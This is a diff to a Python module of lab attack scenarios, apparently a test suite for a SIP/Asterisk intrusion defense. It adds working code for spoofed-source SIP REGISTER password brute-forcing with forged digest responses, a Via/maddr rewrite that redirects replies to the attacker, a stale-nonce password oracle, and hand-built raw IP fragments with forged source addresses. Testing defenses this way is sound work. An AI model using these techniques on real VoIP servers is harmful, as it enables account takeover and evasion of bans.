@@ -1,10 +1,16 @@
 """Attacks on the defender: text that makes a log reader ban somebody else, and datagrams with somebody else's source address."""
+import hashlib
+import random
+import re
+import socket
+import struct
+import threading
 import time
 from urllib.parse import quote
 
 import sip
 from doors import say
-from lab import TRUNK_IP, TRUNK_LOGIN, WORLD
+from lab import TRUNK_IP, TRUNK_LOGIN, WORLD, password
 from scene import attack
 
 INJECTION, SOURCES = "Forged text", "Forged senders"
@@ -184,3 +190,94 @@ def _(scene):
     sources = [device.address, TRUNK_LOGIN, scene.bystander()]
     sip.forged(scene.lab.namespace("att"), [(source, sip.Line(source, WORLD, 5060, agent="friendly-scanner").message(
         "OPTIONS", "100", sender='"sipvicious" <sip:100@1.1.1.1>;tag=3130303031', uri="sip:100@1.1.1.1")) for source in sources], pause=0.1)
+
+
+def answered_at(address, data):
+    """The same request, whose sender wants its answer at another address (RFC 3261 section 18.2.2)."""
+    return re.sub(rb"(Via: SIP/2.0/UDP )[^;]+;branch=([^;\r]+);rport", rf"\g<1>{address}:5060;maddr={address};branch=\2".encode(), data, count=1)
+
+
+def reader(scene, address):
+    with scene.lab.namespace("att"):
+        plug = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    plug.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
+    plug.bind((address, 5060))
+    plug.settimeout(0.5)
+    return plug
+
+
+def invented(user, secret):
+    """What Asterisk 22 checks before it looks at the nonce, which is nobody's."""
+    def md5(text):
+        return hashlib.md5(text.encode()).hexdigest()
+    nonce, uri = f"{int(time.time())}/{sip.fresh()}{sip.fresh()}", f"sip:{WORLD}"
+    response = md5(":".join([md5(f"{user}:asterisk:{secret}"), nonce, "00000001", "c0ffee", "auth", md5(f"REGISTER:{uri}")]))
+    return (f'Digest username="{user}",realm="asterisk",nonce="{nonce}",uri="{uri}",response="{response}",cnonce="c0ffee",nc=00000001,qop=auth,algorithm=MD5')
+
+
+@attack("forged-answers-elsewhere", SOURCES, "4,000 guesses at 400/s with invented nonces, each 'from' another address, answered at the guesser's own (maddr); stale=true tells him the right one",
+        alone=True, expect="hold", because="Nobody proves where he is, so nobody can be banned for it. The account is told, and that its password was found.")
+def _(scene):
+    real, count, per_second = scene.source(), 4000, 400
+    answers, found, ends = [0], [], threading.Event()
+    with reader(scene, real) as plug:
+        def read():
+            while not ends.is_set():
+                try:
+                    data = plug.recv(65536)
+                except OSError:
+                    continue
+                answers[0] += 1
+                if b"stale=true" in data:
+                    found.append(True)
+        worker = threading.Thread(target=read)
+        worker.start()
+        begin = time.monotonic()
+        for done in range(0, count, 50):
+            pairs = []
+            for n in range(done, done + 50):
+                source = f"11.{n % 250}.{n // 250 % 250}.{n % 200 + 1}"
+                secret = password(scene.account) if n == count * 3 // 4 else f"guess{n}"
+                pairs.append((source, answered_at(real, sip.Line(source, WORLD, 5060).message("REGISTER", scene.account, authorization=invented(scene.account, secret)))))
+            sip.forged(scene.lab.namespace("att"), pairs)
+            time.sleep(max(0.0, begin + (done + 50) / per_second - time.monotonic()))
+        time.sleep(2)
+        ends.set()
+        worker.join()
+    scene.suspects.add(real)
+    scene.notes.append(f"{answers[0]} answers read; the right password was {'found' if found else 'not found'}")
+
+
+@attack("forged-long-call-id", SOURCES, "the second's nonce of an address that sends nothing, read in an answer too long for HEP (a Call-ID of 40 KB, maddr), and guesses 'from' that address that echo it",
+        alone=True, expect="hold", because=NOBODY)
+def _(scene):
+    address, real = scene.bystander(), scene.source()
+    line = sip.Line(address, WORLD, 5060)
+    long = 0
+    with reader(scene, real) as plug:
+        for _ in range(4):
+            # All four within one second: its nonce is the same.
+            time.sleep(1.02 - time.time() % 1)
+            fragments(scene, address, answered_at(real, line.message("REGISTER", scene.account, call_id="x" * 40_000 + sip.fresh())))
+            try:
+                answer = sip.Answer(plug.recv(65536))
+            except OSError:
+                continue
+            long += 1
+            sip.forged(scene.lab.namespace("att"), [(address, line.message("REGISTER", scene.account))])
+            time.sleep(0.1)
+            sip.forged(scene.lab.namespace("att"), [(address, line.message("REGISTER", scene.account, cseq=2, authorization=sip.digest(
+                answer, "REGISTER", f"sip:{WORLD}", scene.account, f"guess{n}"))) for n in range(4)], pause=0.02)
+    scene.notes.append(f"{long} of 4 long answers came")
+
+
+def fragments(scene, source, data):
+    """By hand: the kernel makes none of what has its header already."""
+    udp, ident = struct.pack("!HHHH", 5060, 5060, 8 + len(data), 0) + data, random.getrandbits(16)
+    with scene.lab.namespace("att"):
+        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    with raw:
+        for at in range(0, len(udp), 1400):
+            part, more = udp[at:at + 1400], 0x2000 if at + 1400 < len(udp) else 0
+            raw.sendto(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(part), ident, more | at // 8, 64, 17, 0,
+                                   socket.inet_aton(source), socket.inet_aton(WORLD)) + part, (WORLD, 0))
